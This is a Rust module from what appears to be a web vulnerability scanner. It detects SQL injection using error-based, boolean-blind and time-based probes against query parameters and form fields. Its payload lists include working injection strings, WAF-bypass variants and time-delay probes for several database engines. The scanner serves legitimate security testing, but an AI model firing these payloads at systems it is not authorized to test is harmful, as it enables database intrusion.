use std::time::Instant;

use async_trait::async_trait;
use once_cell::sync::Lazy;
use regex::Regex;

use crate::crawler::CrawledPage;
use crate::finding::{Confidence, Evidence, Finding};
use crate::http::HttpClient;
use crate::modules::{form_fields, query_pairs, submit_form, with_query_param, ScanModule};
use crate::scoring::cvss::Severity;
use crate::store::ScanMode;

/// Database error signatures, tagged with the engine they identify.
static SQL_ERRORS: Lazy<Vec<(&'static str, Regex)>> = Lazy::new(|| {
    [
        ("MySQL", r"you have an error in your sql syntax"),
        ("MySQL", r"warning.*mysql"),
        ("MySQL", r"sql syntax.*mysql"),
        ("MySQL", r"valid mysql result"),
        ("Microsoft SQL Server", r"unclosed quotation mark"),
        ("Microsoft SQL Server", r"microsoft ole db provider for sql server"),
        ("Oracle", r"ora-\d{5}"),
        ("PostgreSQL", r"postgresql.*error"),
        ("PostgreSQL", r"pg_query\(\)"),
        ("PostgreSQL", r"npgsql\.postgresexception"),
        ("SQLite", r"sqlite3\.operationalerror"),
        ("SQLite", r"sqlite/jdbcdriver"),
        ("SQL", r"sqlstate\["),
    ]
    .into_iter()
    .map(|(engine, pattern)| {
        (
            engine,
            Regex::new(&format!("(?i){pattern}")).expect("regex"),
        )
    })
    .collect()
});

const ERROR_PAYLOADS: &[&str] = &[
    "'",
    "\"",
    "' OR '1'='1",
    "1' AND '1'='1",
    "1 AND 1=1",
    "' OR 1=1--",
    // WAF-bypass variants: comment padding, encoding, case mixing.
    "'/**/OR/**/1=1--",
    "%27%20OR%201=1--",
    "' oR '1'='1'--",
];

const BOOLEAN_PAIRS: &[(&str, &str)] = &[
    ("1 AND 1=1", "1 AND 1=2"),
    ("' OR '1'='1' --", "' OR '1'='2' --"),
];

const TIME_PAYLOADS: &[(&str, u64)] = &[
    ("' OR SLEEP(5)--", 5),
    ("'; WAITFOR DELAY '0:0:5'--", 5),
    ("' OR pg_sleep(5)--", 5),
];

const VECTOR_CRITICAL: &str = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H";
const VECTOR_HIGH: &str = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:L/A:L";

fn match_sql_error(body: &str) -> Option<(&'static str, &'static Regex)> {
    SQL_ERRORS
        .iter()
        .find(|(_, re)| re.is_match(body))
        .map(|(engine, re)| (*engine, re))
}

fn base_finding(vuln_type: String, url: &str, param: &str) -> Finding {
    Finding {
        module_name: "sqli".to_string(),
        vuln_type,
        severity: Severity::Critical,
        cvss_score: 9.8,
        cvss_vector: VECTOR_CRITICAL.to_string(),
        owasp_category: "A03".to_string(),
        cwe_id: "CWE-89".to_string(),
        affected_url: url.to_string(),
        affected_parameter: Some(param.to_string()),
        description: String::new(),
        remediation: "Use parameterized queries or prepared statements. Never concatenate user \
                      input into SQL."
            .to_string(),
        confidence: Confidence::Confirmed,
        evidence: vec![],
    }
}

/// Three-phase SQL injection detector: error signatures, boolean-blind
/// response differentials, then time-based blind probes. The first positive
/// phase wins for a given parameter.
pub struct Sqli;

#[async_trait]
impl ScanModule for Sqli {
    fn name(&self) -> &'static str {
        "sqli"
    }

    fn description(&self) -> &'static str {
        "Tests for SQL Injection (error-based, boolean-blind, time-based)"
    }

    fn scan_modes(&self) -> &'static [ScanMode] {
        &[ScanMode::Full]
    }

    fn is_active(&self) -> bool {
        true
    }

    async fn active(&self, page: &CrawledPage, http: &HttpClient) -> anyhow::Result<Vec<Finding>> {
        let mut findings = Vec::new();

        for (param, _) in query_pairs(&page.url) {
            if let Some(finding) = self.test_query_param(page, &param, http).await {
                findings.push(finding);
            }
        }

        for form in &page.forms {
            for input in &form.inputs {
                if input.name.is_empty() {
                    continue;
                }
                if let Some(finding) = self.test_form_input(form, &input.name, http).await {
                    findings.push(finding);
                    break;
                }
            }
        }

        Ok(findings)
    }
}

impl Sqli {
    async fn test_query_param(
        &self,
        page: &CrawledPage,
        param: &str,
        http: &HttpClient,
    ) -> Option<Finding> {
        // Phase 1: error-based.
        for payload in ERROR_PAYLOADS {
            let test_url = with_query_param(&page.url, param, payload)?;
            let resp = match http.get(&test_url).await {
                Ok(r) => r,
                Err(_) => continue,
            };
            if let Some((engine, re)) = match_sql_error(&resp.body) {
                let mut finding = base_finding(
                    format!("SQL Injection - Error Based ({engine})"),
                    &page.url,
                    param,
                );
                finding.description = format!(
                    "A {engine} error appeared in the response when injecting into parameter \
                     '{param}'."
                );
                finding.evidence = vec![
                    Evidence::payload("Payload", *payload),
                    Evidence::request("Test URL", test_url),
                    Evidence::response("SQL Error Signature", re.as_str()),
                ];
                return Some(finding);
            }
        }

        // Phase 2: boolean-blind.
        for (true_payload, false_payload) in BOOLEAN_PAIRS {
            let url_true = with_query_param(&page.url, param, true_payload)?;
            let url_false = with_query_param(&page.url, param, false_payload)?;

            let (resp_true, resp_false) =
                match (http.get(&url_true).await, http.get(&url_false).await) {
                    (Ok(t), Ok(f)) => (t, f),
                    _ => continue,
                };

            if resp_true.status == 200 && resp_false.status != 200 {
                let mut finding =
                    base_finding("SQL Injection - Boolean Blind".to_string(), &page.url, param);
                finding.confidence = Confidence::Firm;
                finding.description = format!(
                    "Boolean-based blind SQL injection in '{param}': true and false conditions \
                     produce different response statuses."
                );
                finding.evidence = vec![
                    Evidence::payload("True Condition", *true_payload),
                    Evidence::payload("False Condition", *false_payload),
                    Evidence::log(
                        "Status Codes",
                        format!("true: {}, false: {}", resp_true.status, resp_false.status),
                    ),
                ];
                return Some(finding);
            }

            let size_delta = resp_true.body.len().abs_diff(resp_false.body.len());
            if resp_true.status == resp_false.status && size_delta > 50 {
                let mut finding =
                    base_finding("SQL Injection - Boolean Blind".to_string(), &page.url, param);
                finding.severity = Severity::High;
                finding.cvss_score = 8.6;
                finding.cvss_vector = VECTOR_HIGH.to_string();
                finding.confidence = Confidence::Tentative;
                finding.description = format!(
                    "Possible boolean-blind SQL injection in '{param}': response size differs by \
                     {size_delta} bytes between true and false conditions."
                );
                finding.evidence = vec![
                    Evidence::payload(
                        "True Condition",
                        format!("{true_payload} -> {} bytes", resp_true.body.len()),
                    ),
                    Evidence::payload(
                        "False Condition",
                        format!("{false_payload} -> {} bytes", resp_false.body.len()),
                    ),
                ];
                return Some(finding);
            }
        }

        // Phase 3: time-based blind.
        for (payload, expected_delay) in TIME_PAYLOADS {
            let test_url = with_query_param(&page.url, param, payload)?;
            let start = Instant::now();
            if http.get(&test_url).await.is_err() {
                continue;
            }
            let elapsed = start.elapsed().as_secs_f64();

            if elapsed >= (*expected_delay as f64) - 1.0 {
                let mut finding =
                    base_finding("SQL Injection - Time Based".to_string(), &page.url, param);
                finding.confidence = Confidence::Firm;
                finding.description = format!(
                    "Time-based SQL injection in '{param}': response delayed by {elapsed:.1}s."
                );
                finding.evidence = vec![
                    Evidence::payload("Payload", *payload),
                    Evidence::log(
                        "Response Time",
                        format!("{elapsed:.2}s (expected {expected_delay}s)"),
                    ),
                ];
                return Some(finding);
            }
        }

        None
    }

    async fn test_form_input(
        &self,
        form: &crate::crawler::Form,
        input_name: &str,
        http: &HttpClient,
    ) -> Option<Finding> {
        for payload in &ERROR_PAYLOADS[..3] {
            let fields = form_fields(form, input_name, payload);
            let resp = match submit_form(http, form, &fields).await {
                Ok(r) => r,
                Err(_) => continue,
            };
            if let Some((engine, re)) = match_sql_error(&resp.body) {
                let mut finding = base_finding(
                    format!("SQL Injection - Error Based ({engine}) (Form)"),
                    &form.action,
                    input_name,
                );
                finding.description = format!(
                    "A {engine} error appeared when injecting into form field '{input_name}'."
                );
                finding.evidence = vec![
                    Evidence::payload("Payload", *payload),
                    Evidence::response("SQL Error Signature", re.as_str()),
                ];
                return Some(finding);
            }
        }
        None
    }
}
